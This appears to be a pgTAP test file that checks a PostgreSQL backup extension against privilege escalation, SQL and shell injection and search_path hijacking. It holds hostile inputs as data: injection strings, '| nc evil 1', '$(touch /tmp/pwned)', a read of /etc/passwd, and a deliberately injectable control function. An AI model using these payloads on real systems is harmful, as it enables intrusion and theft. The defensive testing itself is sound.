-- Nobody gets further than the roles say: roles x objects x hostile names. Each attempt is made with the session
-- authorization of its role, in a subtransaction that is rolled back; "escalated" is looked for as the superuser.
SET client_min_messages = error;
SET search_path = public, tap;
BEGIN;
SELECT * FROM no_plan();
CREATE ROLE esc_nobody LOGIN;
CREATE ROLE esc_monitor LOGIN IN ROLE mbackup_monitor;
CREATE ROLE esc_operator LOGIN IN ROLE mbackup_operator;
CREATE ROLE esc_daemon LOGIN IN ROLE mbackup_daemon;
CREATE ROLE esc_evil LOGIN IN ROLE mbackup_operator; -- may create in public, and has prepared a schema of its own
CREATE ROLE esc_owner LOGIN CREATEROLE;              -- owns the database
CREATE SCHEMA evil AUTHORIZATION esc_evil;
GRANT CREATE, USAGE ON SCHEMA public TO esc_evil;
SELECT format('ALTER DATABASE %I OWNER TO esc_owner', current_database()) \gexec
CREATE TABLE public.canary (what text);
CREATE TABLE public.roles (role text PRIMARY KEY);
INSERT INTO public.roles VALUES ('esc_nobody'), ('esc_monitor'), ('esc_operator'), ('esc_daemon'), ('esc_evil'), ('esc_owner');
INSERT INTO mbackup.backup_table (id, kind, status, started, finished, bytes, stored_bytes) VALUES ('20260101T000000Z-aaaaaaaaaaaa', 'full', 'complete', '2026-01-01Z', '2026-01-01Z', 1, 1);
INSERT INTO mbackup.daemon_table (id, host, pid, version, started, seen) VALUES ('11111111-1111-1111-1111-111111111111', 'h', 1, 'v', now(), now());
SELECT mbackup_start() AS job \gset

-- What must never come to be: asked as the superuser, with nothing of the attacker in the way.
CREATE FUNCTION public.is_escalated() RETURNS boolean LANGUAGE sql SET search_path = pg_catalog, pg_temp AS $$
	SELECT EXISTS (SELECT FROM pg_roles WHERE rolname LIKE 'esc\_%' AND (rolsuper OR rolreplication OR rolbypassrls))
		OR EXISTS (SELECT FROM pg_class WHERE relname LIKE 'pwned%') OR EXISTS (SELECT FROM public.canary)
		OR EXISTS (SELECT FROM pg_class AS c, pg_roles AS r WHERE c.relnamespace = 'mbackup'::regnamespace AND r.oid = c.relowner AND NOT r.rolsuper)
		OR EXISTS (SELECT FROM pg_proc AS p, pg_roles AS r WHERE p.pronamespace = 'mbackup'::regnamespace AND r.oid = p.proowner AND NOT r.rolsuper)
		OR pg_has_role('esc_operator', 'mbackup_daemon', 'MEMBER') OR pg_has_role('esc_nobody', 'mbackup_monitor', 'MEMBER')
		OR has_schema_privilege('esc_nobody', 'mbackup', 'USAGE') OR has_function_privilege('esc_nobody', 'public.mbackup_start(text, text, text[], jsonb)', 'EXECUTE')
		OR EXISTS (SELECT FROM mbackup.job_table AS j WHERE j.requested_by NOT IN (session_user, 'postgres') AND j.requested_by NOT LIKE 'esc\_%')
		-- Only words: no value of a job begins like an option or a path, or has a second line.
		OR EXISTS (SELECT FROM mbackup.job_table AS j, LATERAL jsonb_path_query(j.arguments, 'strict $.**') AS v WHERE jsonb_typeof(v) = 'string'
			AND j.kind <> 'plan' AND v #>> '{}' COLLATE "C" ~ '^-|[[:cntrl:]]')
$$;
CREATE FUNCTION public.attempt(who text, statement text) RETURNS text LANGUAGE plpgsql AS $$
DECLARE
	state text;
BEGIN
	BEGIN
		EXECUTE format('SET LOCAL SESSION AUTHORIZATION %I', who);
		EXECUTE statement;
		EXECUTE 'RESET SESSION AUTHORIZATION';
		EXECUTE 'SET LOCAL search_path = pg_catalog, tap';
		state := CASE WHEN public.is_escalated() THEN 'ESCALATED' ELSE 'ok' END;
		RAISE EXCEPTION USING ERRCODE = 'ZZ000';
	EXCEPTION WHEN OTHERS THEN
		IF SQLSTATE <> 'ZZ000' THEN
			state := SQLSTATE;
		END IF;
	END;
	RETURN state;
END
$$;

-- -- the judge can judge --------------------------------------------------------------------------------------
CREATE FUNCTION public.naive(x text) RETURNS integer LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN RETURN length(x::varchar) + 0; END $$;
CREATE FUNCTION public.injectable(x text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN EXECUTE 'SELECT ''' || x || ''''; END $$;
GRANT EXECUTE ON FUNCTION public.naive(text), public.injectable(text) TO PUBLIC;
SELECT is(attempt('esc_evil', $$SELECT injectable('x''; INSERT INTO public.canary VALUES (''x'') --')$$), 'ESCALATED', 'control: a function that is injectable is seen');
SELECT is(attempt('esc_nobody', 'SELECT 1'), 'ok', 'control: harmless is ok');
SELECT is(attempt('esc_nobody', 'TABLE canary'), '42501', 'control: refused is refused');

-- -- every function -------------------------------------------------------------------------------------------
-- Called with NULLs, by every role: who has no right to it is refused (42501), whoever has is refused nothing.  A NULL
-- from a subquery, because a call of a STRICT function with a plain one is gone before anybody asks for the right.
CREATE TABLE public.functions AS
	SELECT p.oid, p.oid::regprocedure::text AS name, p.proname, p.prokind, n.nspname,
		format('%s %I.%I(%s)', CASE p.prokind WHEN 'p' THEN 'CALL' ELSE 'SELECT' END, n.nspname, p.proname,
			(SELECT string_agg(format(CASE p.prokind WHEN 'p' THEN 'NULL::%s' ELSE '(SELECT NULL::%s)' END, t::regtype), ', ' ORDER BY o) FROM unnest(coalesce(p.proallargtypes, p.proargtypes::oid[])) WITH ORDINALITY AS a (t, o))) AS call
	FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace JOIN pg_depend d ON d.classid = 'pg_proc'::regclass AND d.objid = p.oid AND d.deptype = 'e'
		JOIN pg_extension e ON e.oid = d.refobjid AND e.extname = 'mbackup';
CREATE FUNCTION public.may(who text, nspname text, proname text) RETURNS boolean LANGUAGE sql AS $$
	SELECT CASE
		WHEN (proname LIKE 'daemon\_%' AND proname <> 'daemon_seen') OR proname = 'sync' THEN who = 'esc_daemon'
		WHEN proname = 'mbackup_status' THEN who IN ('esc_daemon', 'esc_monitor', 'esc_operator', 'esc_evil')
		WHEN proname IN ('mbackup_wait', 'cron_next', 'cron_field', 'cron_instants', 'span') THEN who IN ('esc_monitor', 'esc_operator', 'esc_evil')
		WHEN nspname = 'public' THEN who IN ('esc_operator', 'esc_evil')
		WHEN proname IN ('flush_wal', 'wal_positions', 'sync') THEN who = 'esc_daemon'
		ELSE false END
$$;
SELECT CASE WHEN may(r.role, f.nspname, f.proname) THEN isnt(a.state, '42501', format('%s may call %s', r.role, f.name))
	ELSE is(a.state, '42501', format('%s may not call %s', r.role, f.name)) END
FROM roles r, functions f, LATERAL (SELECT attempt(r.role, f.call) AS state) a ORDER BY r.role, f.name;
SELECT is_empty($$SELECT f.name FROM functions f, roles r WHERE attempt(r.role, f.call) = 'ESCALATED'$$, 'no call with NULLs gets further');
SELECT is_empty($$SELECT f.name, r.role FROM functions f, roles r WHERE has_function_privilege(r.role, f.oid, 'EXECUTE WITH GRANT OPTION')$$, 'nobody may grant');

-- -- every table and view, every way to write -----------------------------------------------------------------
SELECT is(attempt(r.role, format(s, c.oid::regclass)), '42501', format('%s may not: %s', r.role, format(s, c.oid::regclass)))
FROM roles r, pg_class c, unnest(ARRAY['SELECT * FROM %s', 'DELETE FROM %s', 'TRUNCATE %s', 'ALTER TABLE %s ADD COLUMN x text', 'DROP TABLE %s CASCADE', 'LOCK TABLE %s', 'INSERT INTO %s DEFAULT VALUES',
	'ALTER TABLE %s OWNER TO CURRENT_USER', 'ALTER TABLE %s DISABLE TRIGGER ALL', 'CREATE INDEX ON %s ((1))', 'GRANT SELECT ON %s TO PUBLIC']) AS s
WHERE c.relnamespace = 'mbackup'::regnamespace AND c.relkind = 'r' ORDER BY r.role, c.relname, s;
SELECT is(attempt(r.role, format('SELECT * FROM %s', c.oid::regclass)), CASE WHEN r.role IN ('esc_monitor', 'esc_operator', 'esc_evil') THEN 'ok' ELSE '42501' END, format('%s reads %s', r.role, c.oid::regclass))
FROM roles r, pg_class c WHERE c.relnamespace = 'mbackup'::regnamespace AND c.relkind = 'v' ORDER BY r.role, c.relname;
SELECT ok(attempt(r.role, format(s, c.oid::regclass)) IN ('42501', '55000', '42P10', '428C9'), format('%s may not: %s', r.role, format(s, c.oid::regclass)))
FROM roles r, pg_class c, unnest(ARRAY['DELETE FROM %s', 'INSERT INTO %s DEFAULT VALUES', 'DROP VIEW %s CASCADE', 'ALTER VIEW %s SET (security_barrier)']) AS s
WHERE c.relnamespace = 'mbackup'::regnamespace AND c.relkind = 'v' ORDER BY r.role, c.relname, s;

-- -- other doors ----------------------------------------------------------------------------------------------
-- (2BP01: the owner of the database owns schema public, but what an extension needs cannot be dropped.)
SELECT ok(attempt(r.role, s) IN ('42501', '2BP01'), format('%s may not: %s', r.role, s))
FROM roles r, unnest(ARRAY[
	'SET ROLE mbackup_daemon', 'UPDATE mbackup.job_table SET state = ''done''', 'UPDATE mbackup.policy_table SET arguments = ''{}''',
	'INSERT INTO mbackup.job_table (kind) VALUES (''backup'')', 'SELECT nextval(''mbackup.job_table_id_seq'')', 'SELECT setval(''mbackup.job_table_id_seq'', 1)',
	'COPY mbackup.job_table TO ''/dev/null''', 'COPY mbackup.job_table FROM ''/dev/null''', 'COPY (SELECT 1) TO PROGRAM ''true''', 'SELECT pg_read_file(''/etc/passwd'')',
	'CREATE TABLE mbackup.pwned ()', 'CREATE FUNCTION mbackup.pwned() RETURNS integer LANGUAGE sql AS ''SELECT 1''', 'CREATE VIEW mbackup.pwned AS SELECT 1',
	'ALTER SCHEMA mbackup OWNER TO CURRENT_USER', 'ALTER SCHEMA mbackup RENAME TO x', 'DROP SCHEMA mbackup CASCADE', 'COMMENT ON SCHEMA mbackup IS ''x''',
	'ALTER EXTENSION mbackup UPDATE', 'ALTER EXTENSION mbackup ADD TABLE public.canary', 'DROP EXTENSION mbackup CASCADE', 'COMMENT ON EXTENSION mbackup IS ''x''',
	'ALTER FUNCTION public.mbackup_start(text, text, text[], jsonb) OWNER TO CURRENT_USER', 'ALTER FUNCTION public.mbackup_start(text, text, text[], jsonb) RESET ALL',
	'ALTER FUNCTION public.mbackup_start(text, text, text[], jsonb) SECURITY INVOKER', 'DROP FUNCTION public.mbackup_stop(bigint)', 'ALTER FUNCTION mbackup.daemon_take(uuid) OWNER TO CURRENT_USER',
	'CREATE TRIGGER pwned BEFORE INSERT ON mbackup.job_table FOR EACH ROW EXECUTE FUNCTION suppress_redundant_updates_trigger()',
	'CREATE RULE pwned AS ON INSERT TO mbackup.job_table DO ALSO NOTIFY x', 'CREATE POLICY pwned ON mbackup.job_table', 'ALTER TABLE mbackup.job_table ENABLE ROW LEVEL SECURITY',
	'ALTER DEFAULT PRIVILEGES IN SCHEMA mbackup GRANT ALL ON TABLES TO PUBLIC', 'CREATE PUBLICATION pwned FOR TABLE mbackup.job_table', 'CREATE STATISTICS pwned ON id, kind FROM mbackup.job_table']) AS s
WHERE NOT (r.role = 'esc_daemon' AND s = 'SET ROLE mbackup_daemon') AND NOT (s LIKE 'ALTER DEFAULT%')
ORDER BY r.role, s;
SELECT ok(attempt(r.role, s) IN ('42501', '0LP01', '42710', 'ok', '42883'), format('%s gets nothing by: %s', r.role, s)) FROM roles r, unnest(ARRAY[
	'GRANT EXECUTE ON FUNCTION public.mbackup_start(text, text, text[], jsonb) TO esc_nobody', 'GRANT USAGE ON SCHEMA mbackup TO esc_nobody',
	'ALTER DEFAULT PRIVILEGES IN SCHEMA mbackup GRANT ALL ON TABLES TO esc_nobody', 'CREATE EXTENSION mbackup', 'ALTER ROLE CURRENT_USER SUPERUSER']) AS s ORDER BY r.role, s;
SELECT isnt(attempt(r.role, 'CREATE OR REPLACE FUNCTION public.mbackup_start(policy text DEFAULT ''default'', type text DEFAULT NULL, components text[] DEFAULT NULL, labels jsonb DEFAULT NULL) RETURNS bigint LANGUAGE sql AS ''SELECT 1::bigint'''),
	'ok', r.role || ' does not replace mbackup_start()') FROM roles r;
SELECT is(attempt('esc_operator', format('SELECT mbackup_stop(%s)', :job)), 'ok', 'an operator may cancel the job of another: decided so');
SELECT is(attempt('esc_evil', 'SET ROLE mbackup_operator; SELECT mbackup_start()'), 'ok', 'an operator may SET ROLE mbackup_operator');
CREATE FUNCTION public.whose() RETURNS text LANGUAGE plpgsql AS $$
DECLARE
	who text;
BEGIN
	BEGIN
		EXECUTE 'SET LOCAL SESSION AUTHORIZATION esc_evil; SET LOCAL ROLE mbackup_operator; SELECT mbackup_start()';
		EXECUTE 'RESET SESSION AUTHORIZATION';
		SELECT requested_by || ' ' || requested_as INTO who FROM mbackup.job_table ORDER BY id DESC LIMIT 1;
		RAISE EXCEPTION USING ERRCODE = 'ZZ000';
	EXCEPTION WHEN SQLSTATE 'ZZ000' THEN NULL;
	END;
	RETURN who;
END
$$;
SELECT is(whose(), 'esc_evil mbackup_operator', '... and the job says who it was');

-- -- hostile values in every argument of people's functions --------------------------------------------------------
CREATE TABLE public.hostile (value text);
INSERT INTO hostile VALUES ($q$'; INSERT INTO public.canary VALUES ('x'); --$q$), ($q$x'; ALTER ROLE esc_operator SUPERUSER; --$q$), ($q$$$; DROP TABLE mbackup.job_table; $$$q$), ('"; DROP TABLE mbackup.job_table; --'),
	('--config=/tmp/evil.conf'), ('-v'), ('--repository-url=s3://evil'), ('../../etc/passwd'), ('/etc/passwd'), ('s3://bucket/x'), ('redis://evil:6379'), ('$(touch /tmp/pwned)'), ('`id`'), ('; reboot'), ('| nc evil 1'),
	(E'a\nb'), (E'a\r\nb'), (E'a\tb'), (E'\x1b[2J'), (E'a\x7f'), ('%s%n%I%L'), ('\'), (''''), (''), (' '), (repeat('x', 10000)), (repeat('''', 1000)), ('NULL'), ('null'), ('DEFAULT'), ('{"a": 1}'), ('[]'), ('default'), ('latest'),
	('ä' || repeat('ö', 150)), ('postgres'), ('mbackup_daemon'), ('0; SELECT 1'), ('-1'), ('1e400'), ('infinity'), ('%');
CREATE TABLE public.places AS SELECT * FROM unnest(ARRAY[
	'SELECT mbackup_start(%1$L)', 'SELECT mbackup_start(type => %1$L)', 'SELECT mbackup_start(components => ARRAY[%1$L])', 'SELECT mbackup_start(labels => jsonb_build_object(''k'', %1$L::text))',
	'SELECT mbackup_start(labels => jsonb_build_object(%1$L || ''k'', ''v''))', 'SELECT mbackup_mark(%1$L)', 'SELECT mbackup_verify(ARRAY[%1$L])', 'SELECT mbackup_verify(read_data => %1$L)', 'SELECT mbackup_pin(%1$L)',
	'SELECT mbackup_restore_plan(%1$L)', 'SELECT mbackup_restore_plan(''mark:'' || %1$L)', 'SELECT mbackup_restore_plan(''name:'' || %1$L)', 'SELECT mbackup_schedule(%1$L, ''default'', ''@daily'')', 'SELECT mbackup_schedule(''a'', %1$L, ''@daily'')',
	'SELECT mbackup_schedule(''a'', ''default'', %1$L)', 'SELECT mbackup_schedule(''a'', ''default'', ''@daily'', %1$L)', 'SELECT mbackup_unschedule(%1$L)', 'SELECT mbackup_policy(%1$L)', 'SELECT mbackup_policy(''a'', %1$L)',
	'SELECT mbackup_policy(''a'', ''backup'', jsonb_build_object(%1$L, 1))', 'SELECT mbackup_policy(''a'', ''backup'', jsonb_build_object(''components'', jsonb_build_array(%1$L::text)))',
	'SELECT mbackup_policy(''a'', ''mark'', jsonb_build_object(''name'', %1$L::text))', 'SELECT mbackup_policy(''a'', ''backup'', ''{}'', %1$L)', 'SELECT mbackup_drop_policy(%1$L)', 'SELECT mbackup.cron_next(%1$L, ''UTC'', now())',
	'SELECT mbackup.cron_next(''@daily'', %1$L, now())', 'SELECT mbackup_policy(''p1'', ''backup'', jsonb_build_object(''labels'', jsonb_build_object(''a'', %1$L::text))); SELECT mbackup_start(''p1'')']) AS place;
CREATE TABLE public.hits AS SELECT p.place, h.value, attempt('esc_operator', format(p.place, h.value)) AS state FROM places p, hostile h;
-- Taken, or refused with a code of ours: a syntax error (42601), an undefined name (42P01, 42703) or an internal error would be a way in.
SELECT ok(state IN ('ok', '22023', '22004', '42704', '42710', '42939', '42809', '42P09', '22007', '22008'), format('%s %s: %s', state, place, left(regexp_replace(value, '[[:cntrl:]]', '?', 'g'), 40))) FROM hits ORDER BY place, value;
SELECT is_empty($$SELECT place, value FROM hits WHERE state = 'ok' AND place LIKE '%components%' AND value !~ '^[a-z][a-z0-9_-]{0,62}$'$$, 'only names were taken as components');
SELECT is(attempt('esc_operator', s), e, left(s, 90)) FROM (VALUES
	('SELECT mbackup_start(components => array_fill(''a''::text, ARRAY[100000]))', '22023'), ('SELECT mbackup_start(labels => (SELECT jsonb_object_agg(''k'' || n, ''v'') FROM generate_series(1, 10000) n))', '22023'),
	('SELECT mbackup_stop(9223372036854775807)', '42704'), ('SELECT mbackup_stop(-9223372036854775808)', '42704'), ('SELECT mbackup_wait(9223372036854775807)', '42704'),
	('SELECT mbackup_mark(repeat(''x'', 10000000))', '22023'), ('SELECT mbackup_schedule(''a'', ''default'', ''@daily'', ''UTC'', ''178000000 years'')', '22023'), ('SELECT mbackup_schedule(''a'', ''default'', repeat(''*'', 1000000))', '22023'),
	('SELECT mbackup_policy(''a'', ''backup'', jsonb_build_object(''labels'', jsonb_build_object(''a'', repeat(''x'', 1000000))))', '22023'), ('SELECT mbackup.cron_next(''* * * * *'', ''UTC'', ''infinity'')', 'ok')) AS v (s, e);

-- -- shadows: what an operator puts before or beside pg_catalog --------------------------------------------------------
-- Whoever lets one of these be called by the owner of a SECURITY DEFINER function has lost: ZZ666.
CREATE FUNCTION evil.hit() RETURNS void LANGUAGE plpgsql SET search_path = pg_catalog AS $$ BEGIN IF current_user = (SELECT nspowner::pg_catalog.regrole::text FROM pg_catalog.pg_namespace WHERE nspname = 'mbackup') AND session_user = 'esc_evil' THEN RAISE EXCEPTION 'hit' USING ERRCODE = 'ZZ666'; END IF; END $$;
-- From here on this file itself would be a victim.
SET LOCAL search_path = pg_catalog, tap;
DO $$
DECLARE
	target text;
	f text;
BEGIN
	FOREACH target IN ARRAY ARRAY['evil', 'public'] LOOP
		FOREACH f IN ARRAY ARRAY['length(x varchar) RETURNS integer', 'octet_length(x varchar) RETURNS integer', 'btrim(x varchar) RETURNS text', 'left(x varchar, n integer) RETURNS text', 'format(x varchar, VARIADIC y text[]) RETURNS text',
			'jsonb_build_object(VARIADIC x text[]) RETURNS jsonb', 'to_jsonb(x text[]) RETURNS jsonb', 'clock_timestamp(VARIADIC x integer[]) RETURNS timestamptz', 'pg_notify(x varchar, y varchar) RETURNS void',
			'jsonb_typeof(x json) RETURNS text', 'cardinality(x text[]) RETURNS integer', 'array_ndims(x text[]) RETURNS integer', 'current_setting(x varchar) RETURNS text', 'starts_with(x varchar, y varchar) RETURNS boolean',
			'jsonb_each(x json, OUT key text, OUT value jsonb) RETURNS SETOF record', 'regexp_match(x varchar, y varchar) RETURNS text[]', 'string_to_array(x varchar, y varchar) RETURNS text[]', 'isfinite(x varchar) RETURNS boolean',
			'array_to_string(x text[], y text) RETURNS text', 'pg_control_system(VARIADIC x integer[]) RETURNS bigint', 'has_daemon() RETURNS boolean', 'ask(x text, y jsonb) RETURNS bigint', 'mbackup_start(x varchar) RETURNS bigint'] LOOP
			EXECUTE format('CREATE FUNCTION %s.%s LANGUAGE plpgsql AS %L', target, f, 'BEGIN PERFORM evil.hit(); RETURN' || CASE WHEN f ~ 'SETOF|void' THEN '' ELSE ' NULL' END || '; END');
		END LOOP;
		FOREACH f IN ARRAY ARRAY['text,text', 'varchar,varchar', 'text,varchar', 'name,text', 'bigint,bigint', 'integer,integer', 'jsonb,jsonb', 'jsonb,text', 'timestamptz,interval', 'text,text[]', 'boolean,boolean', 'interval,interval'] LOOP
			EXECUTE format('CREATE FUNCTION %s.op_%s(a %s, b %s) RETURNS boolean LANGUAGE plpgsql AS %L', target, replace(replace(f, ',', '_'), '[]', 's'), split_part(f, ',', 1), split_part(f, ',', 2), 'BEGIN PERFORM evil.hit(); RETURN true; END');
			DECLARE
				o text;
			BEGIN
				FOREACH o IN ARRAY ARRAY['=', '<>', '<', '>', '<=', '>=', '||', '~', '!~', '+', '-', '->', '->>', '?', '#>>'] LOOP
					EXECUTE format('CREATE OPERATOR %s.%s (FUNCTION = %s.op_%s, LEFTARG = %s, RIGHTARG = %s)', target, o, target, replace(replace(f, ',', '_'), '[]', 's'), split_part(f, ',', 1), split_part(f, ',', 2));
				END LOOP;
			END;
		END LOOP;
	END LOOP;
END
$$;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE TABLE public.paths AS SELECT * FROM (VALUES ('evil, pg_catalog, public'), ('public, pg_catalog'), ('pg_temp, evil, public, pg_catalog'), ('evil, pg_temp, mbackup, pg_catalog'), ('"$user", evil, public')) AS v (path);
CREATE TABLE public.temps AS SELECT * FROM (VALUES (''),
	('CREATE TEMP TABLE policy_table (name text, kind text, arguments jsonb, comment text, built_in boolean); CREATE TEMP TABLE job_table (id bigint, state text); CREATE TEMP TABLE pg_roles (x text); CREATE TEMP TABLE pg_timezone_names (name text);'),
	('CREATE DOMAIN pg_temp.text AS pg_catalog.text; CREATE DOMAIN pg_temp.jsonb AS pg_catalog.jsonb; CREATE TYPE pg_temp.interval AS (x integer); CREATE FUNCTION pg_temp.length(pg_catalog.varchar) RETURNS integer LANGUAGE plpgsql AS ''BEGIN PERFORM evil.hit(); RETURN 1; END'';')) AS v (temp);
CREATE TABLE public.good_calls AS SELECT * FROM (VALUES
	('public.mbackup_start(''default'', ''full'', ''{redis,postgres}'', ''{"release": "1.7"}'')'), ('public.mbackup_mark(''m'', true)'), ('public.mbackup_verify(''{latest}'', ''full'')'), ('public.mbackup_expire(true)'), ('public.mbackup_pin(''2026'')'),
	('public.mbackup_restore_plan(''time:2026-01-01Z'')'), ('public.mbackup_stop(' || :job || ')'), ('public.mbackup_wait(' || :job || ', ''0'')'), ('public.mbackup_policy(''p'', ''backup'', ''{"type": "full", "labels": {"a": "b"}}'', ''c'')'),
	('public.mbackup_schedule(''s'', ''default'', ''0 2 * * mon'', ''UTC'', ''5 min'')'), ('public.mbackup_status()'), ('mbackup.cron_next(''0 2 * * *'', ''Europe/Berlin'', pg_catalog.now())')) AS v (call);
SELECT is(public.attempt('esc_evil', 'SET LOCAL search_path = evil, pg_catalog, public; SELECT public.naive(''x'')'), 'ZZ666', 'control: a function without a search_path of its own is caught');
SELECT is(public.attempt('esc_evil', format('SET LOCAL search_path = %s; %s SELECT %s', path, temp, call)), 'ok', format('%s with search_path %s%s', call, path, CASE temp WHEN '' THEN '' ELSE ' and ' || left(temp, 30) END))
FROM public.good_calls, public.paths, public.temps ORDER BY call, path, temp;
SELECT is(public.attempt('esc_evil', format('SET LOCAL search_path = %s; %s SELECT * FROM mbackup.%s', path, temp, c.relname)), 'ok', format('mbackup.%s with search_path %s%s', c.relname, path, CASE temp WHEN '' THEN '' ELSE ' and ' || left(temp, 30) END))
FROM pg_class c, public.paths, public.temps WHERE c.relnamespace = 'mbackup'::regnamespace AND c.relkind = 'v' ORDER BY c.relname, path, temp;
SELECT * FROM finish();
ROLLBACK;
